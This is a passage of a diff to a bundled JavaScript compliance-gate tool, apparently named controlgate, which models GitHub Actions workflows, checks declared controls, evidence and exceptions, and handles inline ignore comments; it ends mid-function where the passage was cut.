+;// CONCATENATED MODULE: ./lib/core/parsers/workflow.js
+
+
+/**
+ * A typed model of GitHub Actions workflows (`.github/workflows/*.yml`) and local action metadata
+ * (`action.yml` of a composite, Docker or JavaScript action). Every value keeps its JSON pointer and
+ * exact source span, so an audit reports the line and column a user must change. Audits hook in
+ * through {@link walkWorkflows} (workflow -> job -> step) rather than re-reading the YAML.
+ */
+/** GitHub only loads workflows directly inside `.github/workflows/`, not from sub-directories. */
+const WORKFLOW_GLOBS = ['.github/workflows/*.yml', '.github/workflows/*.yaml'];
+/** Action metadata can live anywhere in a repository (`uses: ./path/to/action`). */
+const ACTION_GLOBS = ['**/action.yml', '**/action.yaml'];
+/**
+ * The model of one workflow or action file, or undefined when it is not one (unreadable, broken
+ * YAML — recorded by the workspace as an input problem — or not a mapping with `jobs`/`runs`).
+ * Parsed once per run and shared by every rule.
+ */
+function readWorkflowSource(workspace, file) {
+    return workspace.memo('workflow', file, () => {
+        const parsed = workspace.yaml(file);
+        // GitHub reads the first document only.
+        const doc = parsed?.ok ? parsed.documents[0] : undefined;
+        if (!doc)
+            return undefined;
+        return isWorkflowPath(file) ? buildWorkflow(file, doc) : buildAction(file, doc);
+    });
+}
+/** Every workflow, then every action metadata file, in index order. */
+function workflowSources(workspace) {
+    const files = [
+        ...workspace.glob(WORKFLOW_GLOBS),
+        ...workspace.glob(ACTION_GLOBS).filter((f) => !isWorkflowPath(f)),
+    ];
+    const out = [];
+    for (const f of files) {
+        const source = readWorkflowSource(workspace, f);
+        if (source)
+            out.push(source);
+    }
+    return out;
+}
+/**
+ * The one traversal every audit shares: workflows, their jobs and steps, and actions and their
+ * composite steps, in source order. An audit implements only the callbacks of the level it needs;
+ * `expression` is called for every `${{ }}` right after the job or step that holds it (expressions
+ * outside jobs first), which needs `workspace` to read and locate them (cached per file).
+ */
+function walkWorkflows(sources, visitor, workspace) {
+    for (const source of sources) {
+        const exprs = visitor.expression && workspace
+            ? workspace.memo('workflow-expressions-by-holder', source.path, () => groupExpressions(workflowExpressions(workspace, source)))
+            : undefined;
+        const emit = (key, job, step) => {
+            for (const e of exprs?.get(key) ?? [])
+                visitor.expression?.(e, source, job, step);
+        };
+        if (source.kind === 'workflow') {
+            visitor.workflow?.(source);
+            emit('', undefined, undefined);
+            for (const job of source.jobs) {
+                visitor.job?.(job, source);
+                emit(job.id, job, undefined);
+                for (const step of job.steps) {
+                    visitor.step?.(step, source, job);
+                    emit(`${job.id}\u0000${step.index}`, job, step);
+                }
+            }
+        }
+        else {
+            visitor.action?.(source);
+            emit('', undefined, undefined);
+            for (const step of source.steps) {
+                visitor.step?.(step, source, undefined);
+                emit(`\u0000${step.index}`, undefined, step);
+            }
+        }
+    }
+}
+/** Expressions keyed by their holder: '' (file level), job id, or job id + NUL + step index. */
+function groupExpressions(list) {
+    const out = new Map();
+    for (const e of list) {
+        const key = e.stepIndex !== undefined
+            ? `${e.jobId ?? ''}\u0000${e.stepIndex}`
+            : e.jobId !== undefined
+                ? e.jobId
+                : '';
+        const bucket = out.get(key);
+        if (bucket)
+            bucket.push(e);
+        else
+            out.set(key, [e]);
+    }
+    return out;
+}
+/** Whether a path is a workflow (as opposed to action metadata). */
+function isWorkflowPath(file) {
+    return /^\.github\/workflows\/[^/]+\.ya?ml$/.test(file);
+}
+/** Builds the model of a workflow document; undefined unless it is a mapping with a `jobs` mapping. */
+function buildWorkflow(path, document) {
+    const r = new Reader(document);
+    const root = r.node('', document.value);
+    if (!isMap(root.value) || !isMap(root.value.jobs))
+        return undefined;
+    const jobsNode = r.child(root, 'jobs');
+    const workflow = {
+        kind: 'workflow',
+        path,
+        document,
+        jobsNode,
+        jobs: Object.keys(jobsNode.value).flatMap((id) => {
+            const job = r.child(jobsNode, id);
+            return isMap(job.value) ? [readJob(r, id, job)] : [];
+        }),
+    };
+    workflow_assign(workflow, 'name', r.optional(root, 'name'));
+    const on = r.optional(root, 'on');
+    if (on)
+        workflow.on = readTriggers(r, on);
+    const permissions = r.optional(root, 'permissions');
+    if (permissions)
+        workflow.permissions = readPermissions(r, permissions);
+    workflow_assign(workflow, 'env', r.map(root, 'env'));
+    return workflow;
+}
+/** Builds the model of an action metadata document; undefined unless it has a `runs` mapping. */
+function buildAction(path, document) {
+    const r = new Reader(document);
+    const root = r.node('', document.value);
+    if (!isMap(root.value) || !isMap(root.value.runs))
+        return undefined;
+    const runs = r.child(root, 'runs');
+    const action = { kind: 'action', path, document, runs, steps: readSteps(r, runs) };
+    workflow_assign(action, 'name', r.optional(root, 'name'));
+    workflow_assign(action, 'using', r.optional(runs, 'using'));
+    workflow_assign(action, 'image', r.string(runs, 'image'));
+    workflow_assign(action, 'inputs', r.map(root, 'inputs'));
+    return action;
+}
+function readJob(r, id, node) {
+    const job = { ...node, id, services: [], steps: readSteps(r, node) };
+    workflow_assign(job, 'name', r.optional(node, 'name'));
+    workflow_assign(job, 'if', r.optional(node, 'if'));
+    workflow_assign(job, 'uses', r.string(node, 'uses'));
+    workflow_assign(job, 'with', r.map(node, 'with'));
+    workflow_assign(job, 'secrets', r.optional(node, 'secrets'));
+    workflow_assign(job, 'runsOn', r.optional(node, 'runs-on'));
+    workflow_assign(job, 'env', r.map(node, 'env'));
+    workflow_assign(job, 'environment', r.optional(node, 'environment'));
+    workflow_assign(job, 'outputs', r.map(node, 'outputs'));
+    const strategy = r.optional(node, 'strategy');
+    if (strategy)
+        workflow_assign(job, 'matrix', r.optional(strategy, 'matrix'));
+    const container = r.optional(node, 'container');
+    if (container)
+        job.container = readContainer(r, container);
+    const services = r.optional(node, 'services');
+    if (services && isMap(services.value)) {
+        for (const sid of Object.keys(services.value)) {
+            job.services.push({ ...readContainer(r, r.child(services, sid)), id: sid });
+        }
+    }
+    const permissions = r.optional(node, 'permissions');
+    if (permissions)
+        job.permissions = readPermissions(r, permissions);
+    return job;
+}
+function readSteps(r, parent) {
+    const list = r.optional(parent, 'steps');
+    if (!list || !Array.isArray(list.value))
+        return [];
+    const steps = [];
+    list.value.forEach((value, index) => {
+        const node = r.child(list, index);
+        if (!isMap(value))
+            return;
+        const step = { ...node, index };
+        workflow_assign(step, 'id', r.optional(node, 'id'));
+        workflow_assign(step, 'name', r.optional(node, 'name'));
+        workflow_assign(step, 'if', r.optional(node, 'if'));
+        workflow_assign(step, 'uses', r.string(node, 'uses'));
+        workflow_assign(step, 'run', r.string(node, 'run'));
+        workflow_assign(step, 'shell', r.optional(node, 'shell'));
+        workflow_assign(step, 'with', r.map(node, 'with'));
+        workflow_assign(step, 'env', r.map(node, 'env'));
+        steps.push(step);
+    });
+    return steps;
+}
+function readTriggers(r, on) {
+    const v = on.value;
+    if (typeof v === 'string')
+        return { ...on, form: 'string', events: [{ event: v, span: on.span }] };
+    if (Array.isArray(v)) {
+        const events = v.flatMap((item, i) => typeof item === 'string' ? [{ event: item, span: r.child(on, i).span }] : []);
+        return { ...on, form: 'list', events };
+    }
+    if (isMap(v)) {
+        const events = Object.keys(v).map((event) => {
+            const config = r.child(on, event);
+            return { event, span: keySpan(config.span, event), config };
+        });
+        return { ...on, form: 'map', events };
+    }
+    return { ...on, form: 'invalid', events: [] };
+}
+function readPermissions(r, node) {
+    const out = { ...node, scopes: [] };
+    if (typeof node.value === 'string')
+        out.shorthand = node;
+    else if (isMap(node.value)) {
+        for (const scope of Object.keys(node.value))
+            out.scopes.push({ scope, level: r.child(node, scope) });
+    }
+    return out;
+}
+function readContainer(r, node) {
+    const spec = { ...node };
+    if (typeof node.value === 'string')
+        spec.image = node;
+    else {
+        workflow_assign(spec, 'image', r.string(node, 'image'));
+        workflow_assign(spec, 'credentials', r.map(node, 'credentials'));
+        workflow_assign(spec, 'env', r.map(node, 'env'));
+    }
+    return spec;
+}
+/** The span of a mapping key, as a span of its own (for findings that point at the key). */
+function keySpan(valueSpan, key) {
+    const at = valueSpan.key ?? valueSpan.start;
+    return { start: at, end: { line: at.line, column: at.column + Math.max(0, key.length - 1) } };
+}
+/** Creates located nodes; spans come from the document's pointer index (never re-parsing). */
+class Reader {
+    doc;
+    constructor(doc) {
+        this.doc = doc;
+    }
+    node(pointer, value) {
+        // A value that only exists through an alias or merge has no span of its own: use the nearest one.
+        const span = this.doc.span(pointer) ?? this.doc.nearestSpan(pointer) ?? ORIGIN;
+        return { value, pointer, span };
+    }
+    child(parent, token) {
+        const value = parent.value[token];
+        return this.node(`${parent.pointer}/${escapePointerToken(token)}`, value);
+    }
+    /** The child when the parent is a mapping that has the key. */
+    optional(parent, key) {
+        return isMap(parent.value) && Object.hasOwn(parent.value, key) ? this.child(parent, key) : undefined;
+    }
+    /** The child when it is a string (GitHub rejects other types for these keys). */
+    string(parent, key) {
+        const node = this.optional(parent, key);
+        return node && typeof node.value === 'string' ? node : undefined;
+    }
+    map(parent, key) {
+        const node = this.optional(parent, key);
+        if (!node)
+            return undefined;
+        const entries = new Map();
+        if (isMap(node.value))
+            for (const k of Object.keys(node.value))
+                entries.set(k, this.child(node, k));
+        return { ...node, entries };
+    }
+}
+const ORIGIN = { start: { line: 1, column: 1 }, end: { line: 1, column: 1 } };
+function isMap(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value);
+}
+/** Sets an optional property only when there is a value (keeps the model free of `undefined` keys). */
+function workflow_assign(target, key, value) {
+    if (value !== undefined)
+        target[key] = value;
+}
+
+;// CONCATENATED MODULE: ./lib/core/declarations/evidence.js
+
+
+/** Events that run a workflow on the change under review, before it merges. */
+const CHANGE_EVENTS = new Set(['pull_request', 'pull_request_target', 'merge_group']);
+/**
+ * Checks one evidence item: a URL is recorded but never fetched; a workflow file must exist and run on
+ * pull requests (or merge queues) or on pushes to the default branch; any other path or glob must
+ * match at least one file of the repository.
+ */
+function checkEvidence(ref, ctx) {
+    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(ref)) {
+        return { ref, kind: 'url', status: 'not-verified', detail: 'a URL is recorded, not fetched' };
+    }
+    const rel = ref.replace(/^\.\//, '').replace(/^\/+/, '');
+    if (rel === '' || rel.split('/').includes('..')) {
+        return { ref, kind: 'path', status: 'missing', detail: 'must be a path inside the repository' };
+    }
+    if (isWorkflowPath(rel))
+        return checkWorkflow(ref, rel, ctx);
+    const indexed = ctx.workspace.indexed;
+    let found;
+    if (/[*?[\]{}!]/.test(rel)) {
+        const match = ctx.workspace.matcher([rel]);
+        found = indexed.some((f) => match(f));
+    }
+    else {
+        const dir = rel.endsWith('/') ? rel : `${rel}/`;
+        found = indexed.includes(rel) || indexed.some((f) => f.startsWith(dir));
+    }
+    return found
+        ? { ref, kind: 'path', status: 'present', detail: null }
+        : { ref, kind: 'path', status: 'missing', detail: 'no such file or directory in the repository' };
+}
+function checkWorkflow(ref, rel, ctx) {
+    const missing = (detail) => ({ ref, kind: 'workflow', status: 'missing', detail });
+    if (!ctx.workspace.indexed.includes(rel))
+        return missing('no such workflow in the repository');
+    if (!ctx.workspace.has(rel)) {
+        return missing('the workflow is excluded from the check by the configuration, so its triggers cannot be read');
+    }
+    const source = readWorkflowSource(ctx.workspace, rel);
+    if (source?.kind !== 'workflow')
+        return missing('the file is not a valid workflow');
+    const runs = runsOnChanges(source, ctx.defaultBranches);
+    return runs
+        ? { ref, kind: 'workflow', status: 'present', detail: null }
+        : missing(`the workflow does not run on pull requests or on pushes to ${ctx.defaultBranches.join(' or ')}`);
+}
+/**
+ * Whether a workflow runs on the change under review: on `pull_request`, `pull_request_target` or
+ * `merge_group` targeting the default branch, or on pushes to it. Branch filters use GitHub's glob
+ * syntax, with `!` negations evaluated in order.
+ */
+function runsOnChanges(workflow, defaultBranches) {
+    for (const trigger of workflow.on?.events ?? []) {
+        if (CHANGE_EVENTS.has(trigger.event)) {
+            if (trigger.event === 'merge_group' || branchesAllow(trigger, defaultBranches))
+                return true;
+        }
+        else if (trigger.event === 'push') {
+            const config = settings(trigger);
+            // A push trigger with only tag filters does not run on branch pushes.
+            const onlyTags = (config.tags || config['tags-ignore']) && !config.branches && !config['branches-ignore'];
+            if (!onlyTags && branchesAllow(trigger, defaultBranches))
+                return true;
+        }
+    }
+    return false;
+}
+function branchesAllow(trigger, branches) {
+    const config = settings(trigger);
+    const only = list(config.branches);
+    const ignored = list(config['branches-ignore']);
+    return branches.some((branch) => {
+        if (only)
+            return filterMatches(only, branch);
+        if (ignored)
+            return !filterMatches(ignored, branch);
+        return true;
+    });
+}
+/** GitHub's filter semantics: patterns in order, a later `!pattern` can exclude what matched before. */
+function filterMatches(patterns, branch) {
+    let matched = false;
+    for (const p of patterns) {
+        const negated = p.startsWith('!');
+        if (picomatch.isMatch(branch, negated ? p.slice(1) : p))
+            matched = !negated;
+    }
+    return matched;
+}
+function settings(trigger) {
+    const v = trigger.config?.value;
+    return typeof v === 'object' && v !== null && !Array.isArray(v) ? v : {};
+}
+function list(v) {
+    if (typeof v === 'string')
+        return [v];
+    return Array.isArray(v) ? v.filter((x) => typeof x === 'string') : undefined;
+}
+
+;// CONCATENATED MODULE: ./lib/core/declarations/check.js
+
+
+/**
+ * Checks the declarations in force: evidence of implemented and partial controls must exist, a
+ * not-applicable control needs a justification, a planned control must not be past its due date,
+ * exceptions need a reason, an approver and an expiry within the allowed horizon, and (with
+ * `require-declarations: technological`) every control must be declared.
+ */
+function checkDeclarations(declarations, file, options) {
+    const out = {
+        declarations,
+        file,
+        today: options.today,
+        problems: [],
+        evidence: new Map(),
+        exceptions: [],
+        notApplicable: new Set(),
+        notices: [],
+    };
+    if (options.requireDeclarations === 'technological' && !declarations) {
+        out.problems.push({
+            kind: 'undeclared',
+            message: `No declarations file (${file}): require-declarations is "technological", so each of the ${allControls().length} technological controls must be declared. Run \`controlgate init\` for a draft.`,
+            location: null,
+            key: 'no-file',
+        });
+    }
+    if (!declarations || declarations.unreadable)
+        return out;
+    const at = declarations.locate;
+    for (const c of declarations.controls.values()) {
+        const results = c.evidence.map((ref) => checkEvidence(ref, options));
+        out.evidence.set(c.id, results);
+        if (c.status === 'implemented' || c.status === 'partial') {
+            results.forEach((r, i) => {
+                if (r.status !== 'missing')
+                    return;
+                out.problems.push({
+                    kind: 'evidence',
+                    message: `${c.id} is declared ${c.status}, but its evidence ${r.ref} is missing: ${r.detail}.`,
+                    location: at(`${c.pointer}/evidence/${i}`),
+                    key: `${c.id}:${r.ref}`,
+                    controls: [c.id],
+                });
+            });
+        }
+        else if (c.status === 'not-applicable') {
+            if (isMissingJustification(c.justification)) {
+                out.problems.push({
+                    kind: 'justification',
+                    message: `${c.id} is declared not-applicable without a justification; until one is written, its rules still run and the control is a gap.`,
+                    location: at(c.justification === null ? c.pointer : `${c.pointer}/justification`, c.justification === null),
+                    key: c.id,
+                    controls: [c.id],
+                });
+            }
+            else
+                out.notApplicable.add(c.id);
+        }
+        else if (c.status === 'planned' && c.due && c.due < options.today) {
+            out.problems.push({
+                kind: 'plan-due',
+                message: `${c.id} was planned for ${c.due}, which has passed (today is ${options.today}): implement it, or re-plan it with a new due date.`,
+                location: at(`${c.pointer}/due`),
+                key: `${c.id}:${c.due}`,
+                controls: [c.id],
+            });
+        }
+    }
+    if (options.requireDeclarations === 'technological') {
+        for (const c of allControls()) {
+            if (declarations.controls.has(c.id) || declarations.invalid.has(c.id))
+                continue;
+            out.problems.push({
+                kind: 'undeclared',
+                message: `${c.id} (${c.title}) is not declared: require-declarations is "technological". Declare its status in ${file}.`,
+                location: at('/controls', true),
+                key: c.id,
+                controls: [c.id],
+            });
+        }
+    }
+    const horizon = addDays(options.today, options.exceptionMaxDays);
+    for (const e of declarations.exceptions) {
+        const missing = [
+            e.reason ? '' : 'a reason',
+            e.approvedBy ? '' : 'an approver (approved-by)',
+            e.expires ? '' : 'an expiry date (expires)',
+        ].filter(Boolean);
+        let why;
+        if (missing.length > 0) {
+            const list = missing.length > 1 ? `${missing.slice(0, -1).join(', ')} and ${missing.at(-1)}` : missing[0];
+            why = `it lacks ${list}`;
+        }
+        else if (e.expires > horizon) {
+            why = `it expires on ${e.expires}, more than ${options.exceptionMaxDays} days ahead (the latest allowed today is ${horizon}); shorten it, or raise exception-max-days in the configuration`;
+        }
+        if (why) {
+            out.exceptions.push({ exception: e, state: 'invalid', why });
+            out.problems.push({
+                kind: 'exceptions',
+                message: `Exception ${e.id} does not apply: ${why}.`,
+                location: at(e.pointer),
+                key: `${e.id}:${why}`,
+            });
+            continue;
+        }
+        const expired = e.expires < options.today;
+        out.exceptions.push({ exception: e, state: expired ? 'expired' : 'active' });
+        if (expired) {
+            out.notices.push(`${e.location.path}:${e.location.startLine}: exception ${e.id} expired on ${e.expires}; its findings are open again`);
+        }
+        const unknown = e.rules.filter((r) => !options.ruleIds.has(r));
+        if (unknown.length > 0) {
+            out.notices.push(`${e.location.path}:${e.location.startLine}: exception ${e.id} names ${unknown.length === 1 ? 'a rule that does not exist' : 'rules that do not exist'}: ${unknown.join(', ')}`);
+        }
+    }
+    return out;
+}
+/** Empty, or still the `TODO` that `controlgate init` writes. */
+function isMissingJustification(text) {
+    return text === null || text.trim() === '' || /^\s*TODO\b/i.test(text);
+}
+/** `YYYY-MM-DD` plus `days` (UTC calendar days). */
+function addDays(day, days) {
+    const [y, m, d] = day.split('-').map(Number);
+    return new Date(Date.UTC(y, m - 1, d + days)).toISOString().slice(0, 10);
+}
+/** The UTC calendar day of a moment, `YYYY-MM-DD`. */
+function utcDay(now) {
+    return now.toISOString().slice(0, 10);
+}
+
+;// CONCATENATED MODULE: ./lib/core/declarations/verdicts.js
+
+/** Policy problems that are the located cause of a gap in the control they name. */
+const GAP_PROBLEMS = new Set(['evidence', 'justification', 'plan-due']);
+/**
+ * Whether a finding is evidence against the control it maps to: open, above `info`, and from a rule
+ * that checks the repository (not a policy rule, whose problems are assessed from the declarations).
+ */
+function countsAgainstControl(f, policyRules) {
+    return f.status === 'open' && f.severity !== 'info' && !policyRules.has(f.ruleId);
+}
+/**
+ * The findings that make a gap of `controlId`: open findings of its rules above `info`, and the
+ * located declaration problems of that control (missing evidence, missing justification, overdue
+ * plan). Under `fail-on-gap` they are what the gate blocks on.
+ */
+function gapCauses(controlId, findings, policyRules) {
+    return findings.filter((f) => {
+        if (f.status !== 'open' || !f.controls.includes(controlId))
+            return false;
+        const kind = policyRules.get(f.ruleId);
+        return kind ? GAP_PROBLEMS.has(kind) : f.severity !== 'info';
+    });
+}
+/**
+ * One verdict per technological control, with the reasons in words:
+ * - unverifiable: the declaration could not be read, or a rule needed to verify it failed to run,
+ *   or nothing (no evidence, no rule) can verify it;
+ * - undeclared: no declaration (findings are still reported);
+ * - not-applicable: declared so with a justification (its rules are skipped);
+ * - planned: declared planned and not overdue (findings reported, not blocking);
+ * - gap: declared implemented or partial but a mapped rule has an open finding or evidence is
+ *   missing; or planned past its due date; or not-applicable without a justification;
+ * - satisfied: declared implemented or partial and nothing above applies.
+ */
+function assessControls(input) {
+    const { check, policyRules } = input;
+    const decls = check.declarations;
+    const errorsByRule = new Map(input.errors.map((e) => [e.ruleId, e.message]));
+    return allControls().map((c) => {
+        const rules = input.rules.filter((r) => r.controls.includes(c.id) && r.result !== 'disabled' && !policyRules.has(r.id));
+        const mapped = input.findings.filter((f) => f.controls.includes(c.id));
+        const declared = decls?.controls.get(c.id) ?? null;
+        const evidence = check.evidence.get(c.id) ?? [];
+        const reasons = [];
+        let verdict;
+        const against = mapped.filter((f) => countsAgainstControl(f, policyRules));
+        const failing = rules
+            .map((r) => ({ id: r.id, open: against.filter((f) => f.ruleId === r.id).length }))
+            .filter((r) => r.open > 0)
+            .map((r) => `rule ${r.id} has ${r.open} open finding${r.open === 1 ? '' : 's'}`);
+        const errored = rules
+            .filter((r) => r.result === 'error' || r.result === 'unverifiable')
+            .map((r) => r.result === 'unverifiable'
+            ? `rule ${r.id} could not be verified: ${r.detail ?? 'the answer it needs was not available'}`
+            : `rule ${r.id} could not be evaluated (${errorsByRule.get(r.id) ?? 'error'})`);
+        if (decls?.unreadable) {
+            verdict = 'unverifiable';
+            reasons.push(`the declarations file ${decls.file} could not be read: ${decls.unreadable}`);
+        }
+        else if (decls?.invalid.has(c.id)) {
+            verdict = 'unverifiable';
+            reasons.push(`${decls.invalid.get(c.id)}`);
+        }
+        else if (!declared) {
+            verdict = 'undeclared';
+            reasons.push(...failing);
+        }
+        else if (declared.status === 'not-applicable') {
+            if (!check.notApplicable.has(c.id)) {
+                verdict = 'gap';
+                reasons.push('declared not-applicable without a justification, so its rules still run');
+            }
+            else {
+                verdict = 'not-applicable';
+                const skipped = rules.filter((r) => r.result === 'not-applicable').map((r) => r.id);
+                if (skipped.length > 0)
+                    reasons.push(`rules skipped: ${skipped.join(', ')}`);
+            }
+        }
+        else if (declared.status === 'planned') {
+            if (declared.due && declared.due < check.today) {
+                verdict = 'gap';
+                reasons.push(`planned for ${declared.due}, which has passed`);
+            }
+            else {
+                verdict = 'planned';
+                if (declared.due)
+                    reasons.push(`due ${declared.due}`);
+                if (failing.length > 0)
+                    reasons.push(...failing.map((r) => `${r} (not blocking while planned)`));
+            }
+        }
+        else {
+            const missing = evidence
+                .filter((e) => e.status === 'missing')
+                .map((e) => `evidence ${e.ref} is missing: ${e.detail}`);
+            reasons.push(...failing, ...missing);
+            if (reasons.length > 0)
+                verdict = 'gap';
+            else if (errored.length > 0) {
+                verdict = 'unverifiable';
+                reasons.push(...errored);
+            }
+            else if (evidence.length === 0 && rules.length === 0) {
+                verdict = 'unverifiable';
+                reasons.push(`nothing verifies this declaration: cite evidence (a path, a workflow or a URL) or add a rule mapped to ${c.id}`);
+            }
+            else {
+                verdict = 'satisfied';
+                if (evidence.length > 0 && evidence.every((e) => e.status === 'not-verified')) {
+                    reasons.push('its evidence is URLs only, which controlgate records but does not fetch');
+                }
+            }
+        }
+        return {
+            id: c.id,
+            title: c.title,
+            declared: declared
+                ? {
+                    status: declared.status,
+                    justification: declared.justification,
+                    owner: declared.owner,
+                    due: declared.due,
+                    location: declared.location,
+                    from2013: declared.from2013,
+                }
+                : null,
+            verdict,
+            reasons,
+            evidence,
+            exceptions: exceptionsOf(c.id, mapped, check),
+            rules: rules.map((r) => ({ id: r.id, result: r.result, findings: r.findings })),
+            findings: mapped.length,
+            open: mapped.filter((f) => f.status === 'open').length,
+        };
+    });
+}
+function exceptionsOf(id, mapped, check) {
+    const out = [];
+    for (const { exception: e, state } of check.exceptions) {
+        const covered = mapped.filter((f) => f.exception?.kind === 'exception' && f.exception.id === e.id).length;
+        if (covered === 0 && e.control !== id)
+            continue;
+        out.push({ id: e.id, state, expires: e.expires, findings: covered });
+    }
+    return out;
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/types.js
 /** Identity helper that keeps an evaluator's option type checked. */
 function defineEvaluator(evaluator) {
     return evaluator;
+}
+
+;// CONCATENATED MODULE: ./lib/core/triage.js
+/**
+ * Triage: the one step, after detection, where findings are excepted (approved exceptions from the
+ * declarations in force) or ignored (inline `controlgate: ignore[rule-id] reason` comments). Nothing
+ * is dropped: a suppressed finding keeps its place in every report with its new status and the
+ * exception or comment that suppressed it, and the summary counts it.
+ */
+
+/**
+ * `# controlgate: ignore[rule-a, rule-b] reason` (also after `//`, for JSON5 and JavaScript-like
+ * files). The reason is everything after the bracket, minus a leading `:` or `-` and a closing
+ * comment marker.
+ */
+const DIRECTIVE = /(?:#|\/\/)\s*controlgate:\s*ignore\[([^\]]*)\](.*)$/;
+/** Applies exceptions, then inline ignores, to the open findings; mutates their status. */
+function triage(input) {
+    const matchers = new Map();
+    const byPaths = (paths) => {
+        const key = paths.join('\0');
+        let m = matchers.get(key);
+        if (!m) {
+            m = picomatch(paths, { dot: true });
+            matchers.set(key, m);
+        }
+        return m;
+    };
+    const covers = (s, f) => {
+        const e = s.exception;
+        if (!e.rules.includes(f.ruleId))
+            return false;
+        if (e.control && !f.controls.includes(e.control))
+            return false;
+        if (e.paths.length === 0)
+            return true;
+        return f.location !== null && byPaths(e.paths)(f.location.path);
+    };
+    for (const f of input.findings) {
+        if (f.status !== 'open' || input.protectedRules.has(f.ruleId))
+            continue;
+        const matching = input.exceptions.filter((s) => s.state !== 'invalid' && covers(s, f));
+        const active = matching.find((s) => s.state === 'active');
+        const expired = matching.find((s) => s.state === 'expired');
+        if (active) {
+            f.status = 'excepted';
+            f.exception = describe(active);
+        }
+        else if (expired) {
+            f.exception = { ...describe(expired), expired: true };
+            f.message = `${f.message} (exception ${expired.exception.id} expired on ${expired.exception.expires}; the finding is open again)`;
+        }
+    }
+    const directives = new Map();
+    for (const f of input.findings) {
+        if (f.status !== 'open' || !f.location || input.protectedRules.has(f.ruleId))
+            continue;
+        const path = f.location.path;
+        let list = directives.get(path);
+        if (!list) {
+            list = readDirectives(input.workspace.text(path));
+            directives.set(path, list);
+        }
+        const line = f.location.startLine;
+        const d = list.find((x) => x.rules.includes(f.ruleId) && (x.line === line || (x.line === line - 1 && x.ownLine)));
+        if (!d)
+            continue;
+        // A comment without a reason does not apply; the inline-ignore-invalid rule reports it.
+        if (!d.reason)
+            continue;
+        f.status = 'ignored';
+        f.exception = { kind: 'inline-ignore', reason: d.reason, location: { path, startLine: d.line } };
+    }
+}
+function describe(s) {
+    const e = s.exception;
+    const out = { kind: 'exception', id: e.id, reason: e.reason ?? '', location: e.location };
+    if (e.approvedBy)
+        out.approvedBy = e.approvedBy;
+    if (e.expires)
+        out.expires = e.expires;
+    return out;
+}
+/** The ignore directives of a file, by 1-based line. */
+function readDirectives(text) {
+    if (text === undefined || !text.includes('controlgate:'))
+        return [];
+    const out = [];
+    text.split(/\r?\n/).forEach((raw, i) => {
+        const m = DIRECTIVE.exec(raw);
+        if (!m)
+            return;
+        const rules = m[1]
+            .split(',')
+            .map((r) => r.trim())
+            .filter(Boolean);
+        const reason = m[2]
+            .replace(/(-->|\*\/)\s*$/, '')
+            .trim()
+            .replace(/^[:\-–—]\s*/, '')
+            .trim();
+        const before = raw.slice(0, m.index).trim();
+        out.push({ line: i + 1, rules, reason, text: m[0].trim(), ownLine: before === '' });
+    });
+    return out;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/policy/inline-ignores.js
+
+/** Ignore comments without a reason, one finding per comment. */
+function reasonlessIgnores(workspace) {
+    const out = [];
+    for (const file of workspace.files) {
+        for (const d of readDirectives(workspace.text(file))) {
+            if (d.reason)
+                continue;
+            const ids = d.rules.join(', ') || 'rule-id';
+            out.push({
+                message: `The inline ignore of ${ids} at ${file}:${d.line} has no reason, so it does not apply: write \`controlgate: ignore[${ids}] <why it is safe>\`.`,
+                location: { path: file, startLine: d.line },
+                key: d.text,
+            });
+        }
+    }
+    return out;
+}
+/** Ignore comments (with a reason) that the base commit's version of the file does not have. */
+function addedIgnores(workspace, base) {
+    const out = [];
+    for (const file of workspace.files) {
+        const directives = readDirectives(workspace.text(file)).filter((d) => d.reason);
+        if (directives.length === 0)
+            continue;
+        const before = base.read(file);
+        const baseText = before.kind === 'text' ? before.text : '';
+        for (const d of directives) {
+            if (baseText.includes(d.text))
+                continue;
+            out.push({
+                message: `Policy change: inline ignore added at ${file}:${d.line}: ${d.rules.join(', ')} ignored ("${d.reason}").`,
+                location: { path: file, startLine: d.line },
+                key: `ignore:${d.text}`,
+            });
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/policy/policy.js
+
+
+const NO_OPTIONS = { type: 'object', additionalProperties: false, properties: {} };
+function policyEvaluator(problem, summary, more = () => []) {
+    return defineEvaluator({
+        kind: `policy.${problem}`,
+        summary,
+        schema: NO_OPTIONS,
+        evaluate: (ctx) => [...(ctx.policy?.of(problem) ?? []), ...more(ctx)],
+    });
+}
+/** Every policy evaluator, for the registry. */
+const policyEvaluators = [
+    policyEvaluator('declarations-file', 'The declarations file parses and matches schemas/controls.schema.json.'),
+    policyEvaluator('evidence', 'Evidence of controls declared implemented or partial exists (workflows run on pull requests).'),
+    policyEvaluator('justification', 'Controls declared not-applicable carry a justification.'),
+    policyEvaluator('undeclared', 'Every technological control is declared (with require-declarations: technological).'),
+    policyEvaluator('plan-due', 'Controls declared planned are not past their due date.'),
+    policyEvaluator('exceptions', 'Exceptions have a reason, an approver and an expiry within the allowed horizon.'),
+    policyEvaluator('inline-ignores', 'Inline ignore comments give a reason.', (ctx) => reasonlessIgnores(ctx.workspace)),
+    policyEvaluator('changes', 'Changes to the policy (config, declarations, exceptions, custom rules, inline ignores) made by the change under review.', (ctx) => (ctx.policy?.base ? addedIgnores(ctx.workspace, ctx.policy.base) : [])),
+];
+/** The problem kind a `policy.*` check kind reports, or undefined for other kinds. */
+function policyKind(kind) {
+    return kind.startsWith('policy.') ? kind.slice('policy.'.length) : undefined;
+}
+
+;// CONCATENATED MODULE: ./lib/core/diff.js
+/**
+ * The change under review: which files a pull request touches and which lines of the new version it
+ * adds. Two sources give the same shape: git (`base...head`, when the checkout has the history) and
+ * the GitHub API's list of pull-request files (each with a unified `patch`). Paths are relative to the
+ * top of the repository; {@link DiffIndex} answers questions in the checked root's terms.
+ */
+
+/** Most bytes of `git diff` output read; a larger diff is left to the API, whose patches are capped. */
+const MAX_DIFF_BYTES = 64 * 1024 * 1024;
+const GIT_TIMEOUT_MS = 60_000;
+const HUNK = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,(\d+))? @@/;
+/**
+ * Parses `git diff --raw -p -z --unified=0` output: NUL-separated raw records (exact paths and
+ * statuses), an empty record, then the patch with one `diff --git` section per record, in the same
+ * order. Only hunk headers are read: with no context lines, a hunk's new side is exactly its added
+ * lines. Paths are never parsed from the patch headers, which quote unusual names.
+ */
+function parseGitDiff(output) {
+    const end = output.indexOf('\0\0');
+    const raw = end >= 0 ? output.slice(0, end) : output;
+    const patch = end >= 0 ? output.slice(end + 2) : '';
